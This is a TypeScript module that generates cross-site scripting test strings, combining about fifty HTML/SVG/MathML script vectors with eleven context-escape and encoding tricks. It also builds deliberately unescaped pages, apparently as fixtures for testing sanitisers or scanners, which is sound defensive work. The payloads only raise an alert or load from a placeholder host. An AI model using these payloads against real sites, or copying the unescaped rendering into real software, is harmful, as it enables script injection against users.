/** A call that opens a dialog and bears the name of the string it is in: a pattern needs no quotation marks. */
const call = (mark: string) => `alert(/${mark}/)`

/** Ways that markup runs script, or puts something of its own on a page. Each stands for a family of known attacks. */
const vectors: readonly ((mark: string) => string)[] = [
  mark => `<script>${call(mark)}</script>`,
  mark => `<script src=//x.example/${mark}.js></script>`,
  mark => `<script src=data:text/javascript,${call(mark)}></script>`,
  mark => `<script/${mark}>${call(mark)}//`,
  mark => `<<script>${call(mark)}//<</script>`,
  mark => `<img src=x onerror=${call(mark)}>`,
  mark => `<img/src="x"/onerror=${call(mark)}>`,
  mark => `<img src=x:${mark} onerror\n=${call(mark)}>`,
  mark => `<image src=x onerror=${call(mark)}>`,
  mark => `<img srcset=x onerror=${call(mark)}`,
  mark => `<body onload=${call(mark)}>`,
  mark => `<svg onload=${call(mark)}>`,
  mark => `<svg/onload=${call(mark)}//`,
  mark => `<svg><script>${call(mark)}</script></svg>`,
  mark => `<svg><a xlink:href=javascript:${call(mark)}><text y=9>${mark}</text></a></svg>`,
  mark => `<svg><animate onbegin=${call(mark)} attributeName=x dur=1s>`,
  mark => `<svg><set attributeName=href to=javascript:${call(mark)}>`,
  mark => `<svg><use href=data:image/svg+xml,${mark}#x></svg>`,
  mark => `<svg><foreignObject><iframe onload=${call(mark)}></iframe></foreignObject></svg>`,
  mark => `<svg><style><img src=x onerror=${call(mark)}></style></svg>`,
  mark => `<math><maction xlink:href=javascript:${call(mark)}>${mark}</maction></math>`,
  mark => `<math><mtext><table><mglyph><style><img src=x onerror=${call(mark)}>`,
  mark => `<math href=javascript:${call(mark)}>${mark}</math>`,
  mark => `<a href=javascript:${call(mark)}>${mark}</a>`,
  mark => `<a href="java\tscript:${call(mark)}">${mark}</a>`,
  mark => `<a href=&#106;avascript:${call(mark)}>${mark}</a>`,
  mark => `<a href=data:text/html,<script>${call(mark)}</script>>${mark}</a>`,
  mark => `<a href=vbscript:${mark}>${mark}</a>`,
  mark => `<a ${mark} onclick=${call(mark)}>${mark}</a>`,
  mark => `<iframe src=javascript:${call(mark)}></iframe>`,
  mark => `<iframe srcdoc="&lt;script&gt;${call(mark)}&lt;/script&gt;"></iframe>`,
  mark => `<object data=javascript:${call(mark)}></object>`,
  mark => `<embed src=data:text/html,${mark}>`,
  mark => `<base href=//x.example/${mark}/>`,
  mark => `<meta http-equiv=refresh content="0;url=javascript:${call(mark)}">`,
  mark => `<link rel=stylesheet href=//x.example/${mark}.css>`,
  mark => `<style>@import url(//x.example/${mark}.css)</style>`,
  mark => `<div style="background:url(javascript:${call(mark)})">${mark}</div>`,
  mark => `<form action=javascript:${call(mark)}><button>${mark}</button></form>`,
  mark => `<button formaction=javascript:${call(mark)}>${mark}</button>`,
  mark => `<input autofocus onfocus=${call(mark)}>`,
  mark => `<select autofocus onfocus=${call(mark)}>`,
  mark => `<details open ontoggle=${call(mark)}>`,
  mark => `<video><source onerror=${call(mark)}></video>`,
  mark => `<audio src=x onerror=${call(mark)}>`,
  mark => `<marquee onstart=${call(mark)}>`,
  mark => `<template><img src=x onerror=${call(mark)}></template>`,
  mark => `<template shadowrootmode=open><img src=x onerror=${call(mark)}></template>`,
  mark => `<noscript><b title="</noscript><img src=x onerror=${call(mark)}>">`,
  mark => `<x-${mark} onpointerenter=${call(mark)} tabindex=1>`,
  mark => `<b ${mark}=1 onanimationstart=${call(mark)}>${mark}</b>`,
]

/** Spells signs as entities: a page that decodes twice would let them act. */
const asEntities = (text: string) =>
  text.replaceAll(/[<>"'&]/g, sign => (sign === '<' ? '&lt;' : `&#x${sign.charCodeAt(0).toString(16)};`))

/** The wide letters of East Asia, which compatibility forms turn into plain signs. */
const asWide = (text: string) =>
  text.replaceAll(/[<>"'=()/:]/g, sign => String.fromCharCode(sign.charCodeAt(0) + 0xfee0))

/** Capital and small letters by turns in everything but the mark. */
const asMixed = (text: string) =>
  text.replaceAll(/[a-z]/g, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter))

/** An HTML context that a string tries to leave, and how a page that escapes nothing would hold it. */
interface Context {
  readonly name: string
  readonly spell: (vector: string) => string
  readonly unescaped: (text: string) => string
}

const bare = (text: string) => `<p>${text}</p>`
const decoded = (text: string) =>
  text
    .replaceAll('&lt;', '<')
    .replaceAll(/&#x([0-9a-f]+);/g, (_all, code: string) => String.fromCharCode(Number.parseInt(code, 16)))

export const contexts: readonly Context[] = [
  { name: 'plain', spell: text => text, unescaped: bare },
  { name: 'double quotes', spell: text => `">${text}`, unescaped: text => `<input value="${text}">` },
  { name: 'single quotes', spell: text => `'>${text}`, unescaped: text => `<input value='${text}'>` },
  { name: 'title', spell: text => `</title>${text}`, unescaped: text => `<title>${text}</title>` },
  { name: 'script', spell: text => `</script>${text}`, unescaped: text => `<script type=a src=/>${text}</script>` },
  { name: 'textarea', spell: text => `</textarea>${text}`, unescaped: text => `<textarea>${text}</textarea>` },
  { name: 'comment', spell: text => `-->${text}`, unescaped: text => `<!-- ${text} -->` },
  { name: 'entities', spell: asEntities, unescaped: text => bare(decoded(text)) },
  { name: 'wide', spell: asWide, unescaped: text => bare(text.normalize('NFKC')) },
  { name: 'decomposed', spell: text => `Tie\u0302\u0301ng ${text}`, unescaped: text => bare(text.normalize('NFC')) },
  { name: 'mixed case', spell: asMixed, unescaped: bare },
]

/** How many strings there are for each field. */
export const stringCount = vectors.length * contexts.length

/** The string of that number for a field. */
export function attackString(field: number, number: number): string {
  const context = contexts[number % contexts.length]
  const vector = vectors[Math.floor(number / contexts.length)]
  return context && vector ? context.spell(vector(`x${field}k${number}z`)) : ''
}

/** A page that shows the string of that number without escaping, in its body: a head reads `noscript` otherwise. */
export const flawedHtml = (number: number): string =>
  `<p></p>${contexts[number % contexts.length]?.unescaped(attackString(0, number)) ?? ''}`
